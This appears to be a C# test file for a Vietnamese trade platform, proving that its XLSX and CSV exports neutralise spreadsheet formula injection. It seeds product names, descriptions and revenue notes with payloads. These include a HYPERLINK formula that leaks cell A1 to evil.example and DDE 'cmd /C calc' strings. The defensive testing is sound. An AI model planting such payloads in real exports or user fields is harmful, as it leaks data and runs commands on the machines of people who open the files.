using System.Net;
using System.Text.Json.Nodes;
using System.Xml.Linq;
using OcopTrade.Tests.Support;

namespace OcopTrade.Tests.Hardening;

/// <summary>Issue 9 §3, "XLSX/CSV exports formula-safe", proven from the files: a producer and its products carry
/// formula payloads in every free-text field, every export is downloaded, and its cells are read back by readers we
/// did not write (unzip and an XML parser for XLSX, Python's csv module for CSV). No cell may be a formula, and no
/// text cell may start with a character a spreadsheet runs (= + - @, tab, CR): the payload is there, neutralised
/// with a leading apostrophe.</summary>
[Collection(SharedAppCollection.Name)]
public class FormulaSafeExportTests(SharedApp shared)
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")";
    private static readonly char[] Runs = ['=', '+', '-', '@', '\t', '\r'];

    [Fact]
    public async Task Every_export_holding_user_text_neutralises_formulas_in_its_cells()
    {
        var admin = shared.App.Client();
        var province = "Tỉnh Công Thức " + Guid.NewGuid().ToString("N")[..8];
        var producerBody = Api.Producer(province);
        producerBody["legalName"] = Hyperlink;
        var producerId = (await (await admin.PostAsync("/api/producers", Api.JsonBody(producerBody))).ExpectAsync(HttpStatusCode.Created))["id"]!.GetValue<string>();
        var producer = shared.App.Client(await admin.ProducerKeyAsync(producerId));

        // A leading tab or CR is refused in a one-line field and trimmed from a description, so it never reaches a
        // cell first; what follows it (a formula) does, and is what the exports must neutralise.
        var tabbed = Api.Product();
        tabbed["name"] = "\t=1+1";
        await (await producer.PostAsync("/api/products", Api.JsonBody(tabbed))).ExpectProblemAsync(HttpStatusCode.BadRequest, "name");

        // An expiring certificate puts the products on the report's certificates sheet; still listable, they are in
        // the bulk-upload sheet too.
        var today = DateOnly.FromDateTime(shared.App.Clock.GetUtcNow().UtcDateTime.AddHours(7));
        var issued = today.AddMonths(-36).AddDays(30).ToString("yyyy-MM-dd");
        var payloads = new (string Name, string Description)[]
        {
            ("+1 Chè Shan Tuyết", Hyperlink + " chè shan tuyết cổ thụ hái tay."),
            ("-1 Mật ong bạc hà", "@SUM(1+1)*cmd|' /C calc'!A0 mật ong bạc hà cao nguyên đá."),
            ("@SUM(A1:A9) Gạo nếp", "\t\r=2+5+cmd|' /C calc'!A0 gạo nếp cái hoa vàng thơm dẻo."),
            (Hyperlink, "-2+3 miến dong làm thủ công, phơi nắng tự nhiên."),
        };
        foreach (var (name, description) in payloads)
        {
            var body = Api.Product(null, issued);
            body["name"] = name;
            body["description"] = description;
            var id = (await (await producer.PostAsync("/api/products", Api.JsonBody(body))).ExpectAsync(HttpStatusCode.Created))["id"]!.GetValue<string>();
            await (await producer.PostAsync($"/api/products/{id}/publish", null)).ExpectAsync(HttpStatusCode.OK);
        }
        var year = today.Year;
        var entry = Revenue.RevenueEntryTests.Entry(producerId, "ecommerce", $"{year}-01", 2_500_000, "voso");
        entry["note"] = "=cmd|' /C calc'!A0";
        await Revenue.RevenueEntryTests.RecordAsync(producer, entry);

        var department = shared.App.Client(await admin.IssueKeyAsync(new JsonObject { ["role"] = "department", ["province"] = province }));
        var scope = $"province={Uri.EscapeDataString(province)}&year={year}";

        var report = await XlsxCellsAsync(await DownloadAsync(department, $"/api/reports/export.xlsx?{scope}"));
        AssertNeutralised("report export.xlsx", report, [Hyperlink, "+1 Chè Shan Tuyết", "-1 Mật ong bạc hà", "@SUM(A1:A9) Gạo nếp"]);

        var csvCells = new List<string>();
        foreach (var sheet in new[] { "channels", "producers", "participation", "certificates" })
            csvCells.AddRange(await CsvCellsAsync(await DownloadAsync(department, $"/api/reports/export.csv?sheet={sheet}&{scope}")));
        AssertNeutralised("report export.csv", csvCells, [Hyperlink, "+1 Chè Shan Tuyết", "-1 Mật ong bạc hà", "@SUM(A1:A9) Gạo nếp"]);

        var entries = await CsvCellsAsync(await DownloadAsync(producer, $"/api/revenue/export.csv?producerId={producerId}"));
        AssertNeutralised("revenue export.csv", entries, ["=cmd|' /C calc'!A0"]);

        foreach (var channel in new[] { "voso", "postmart", "shopee" })
        {
            var bulk = await XlsxCellsAsync(await DownloadAsync(producer, $"/api/producers/{producerId}/bulk-exports/{channel}.xlsx"));
            AssertNeutralised($"{channel} bulk export", bulk,
                [Hyperlink, "+1 Chè Shan Tuyết", "-1 Mật ong bạc hà", "@SUM(A1:A9) Gạo nếp", "=2+5+cmd|' /C calc'!A0 gạo nếp cái hoa vàng thơm dẻo."]);
        }
    }

    /// <summary>Every payload is in the file, behind an apostrophe; no text cell starts with what a spreadsheet runs.</summary>
    private static void AssertNeutralised(string file, IReadOnlyCollection<string> cells, IEnumerable<string> payloads)
    {
        Assert.All(cells, c => Assert.False(c.Length > 0 && Runs.Contains(c[0]), $"{file}: a cell starts a formula: {c}"));
        foreach (var payload in payloads)
            Assert.True(cells.Any(c => c.StartsWith("'" + payload, StringComparison.Ordinal)), $"{file}: no neutralised cell for {payload}");
    }

    private static async Task<byte[]> DownloadAsync(HttpClient client, string url)
    {
        var response = await client.GetAsync(url);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{url}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        return await response.Content.ReadAsByteArrayAsync();
    }

    /// <summary>The text of every cell, read with unzip and an XML parser. Fails on any formula element.</summary>
    private static async Task<List<string>> XlsxCellsAsync(byte[] xlsx)
    {
        var path = Path.Combine(Path.GetTempPath(), $"ocop-export-{Guid.NewGuid():N}.xlsx");
        await File.WriteAllBytesAsync(path, xlsx);
        try
        {
            var names = (await RunAsync("unzip", "-Z1", path)).Split('\n', StringSplitOptions.RemoveEmptyEntries);
            var shared = names.Contains("xl/sharedStrings.xml")
                ? XDocument.Parse(await RunAsync("unzip", "-p", path, "xl/sharedStrings.xml")).Descendants().Where(e => e.Name.LocalName == "si")
                    .Select(si => string.Concat(si.Descendants().Where(t => t.Name.LocalName == "t").Select(t => t.Value))).ToList()
                : [];
            var cells = new List<string>();
            foreach (var sheet in names.Where(n => n.StartsWith("xl/worksheets/", StringComparison.Ordinal) && n.EndsWith(".xml", StringComparison.Ordinal)))
            {
                var xml = XDocument.Parse(await RunAsync("unzip", "-p", path, sheet));
                var formulas = xml.Descendants().Where(e => e.Name.LocalName == "f").ToList();
                Assert.True(formulas.Count == 0, $"{sheet} holds formulas: {string.Join(" | ", formulas)}");
                foreach (var c in xml.Descendants().Where(e => e.Name.LocalName == "c"))
                {
                    var type = (string?)c.Attribute("t");
                    // A number cell is a number: what starts with '-' there is a negative amount, not a formula.
                    if (type is null or "n" or "b") continue;
                    var value = c.Elements().FirstOrDefault(e => e.Name.LocalName == "v")?.Value;
                    cells.Add(type switch
                    {
                        "s" => shared[int.Parse(value!)],
                        "inlineStr" => string.Concat(c.Descendants().Where(t => t.Name.LocalName == "t").Select(t => t.Value)),
                        _ => value ?? "",
                    });
                }
            }
            Assert.NotEmpty(cells);
            return cells;
        }
        finally { File.Delete(path); }
    }

    /// <summary>Every field of a CSV as Python's csv module reads it (Excel's dialect).</summary>
    private static async Task<List<string>> CsvCellsAsync(byte[] csv)
    {
        var path = Path.Combine(Path.GetTempPath(), $"ocop-export-{Guid.NewGuid():N}.csv");
        await File.WriteAllBytesAsync(path, csv);
        try
        {
            var json = await RunAsync("python3", "-c",
                "import csv, json, sys\nwith open(sys.argv[1], newline='', encoding='utf-8-sig') as f: print(json.dumps([c for row in csv.reader(f) for c in row]))", path);
            var cells = JsonNode.Parse(json)!.AsArray().Select(c => c!.GetValue<string>()).ToList();
            Assert.NotEmpty(cells);
            return cells;
        }
        finally { File.Delete(path); }
    }

    private static async Task<string> RunAsync(string program, params string[] arguments)
    {
        var result = await Command.RunAsync(program, arguments);
        Assert.True(result.ExitCode == 0, $"{program} failed: {result.Error}");
        return result.Output;
    }
}
